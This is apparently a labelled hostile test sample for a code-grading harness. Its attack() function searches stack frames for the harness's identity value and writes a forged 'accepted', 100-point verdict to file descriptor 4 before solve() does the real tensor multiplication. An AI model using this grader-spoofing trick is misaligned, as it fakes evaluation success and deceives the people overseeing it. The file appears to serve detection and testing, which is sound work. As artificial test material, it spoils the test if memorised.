# hostile: family=protocol verdict=sandbox_violation build=build_error lift=parser shows=naive:called
"""Finds the judge's question in the harness and answers it, with success in all words."""


def attack():
    import json
    import os
    import sys
    import time

    identity, frame = "0" * 32, sys._getframe()
    while frame is not None:
        identity = frame.f_locals.get("identity", identity)
        frame = frame.f_back
    body = json.dumps({"type": "called", "id": identity, "verdict": "accepted", "points": 100}).encode()
    os.write(4, len(body).to_bytes(4, "little") + body)
    time.sleep(1)


def solve(x, y):
    import torch

    attack()
    torch.mul(x, 2, out=y)
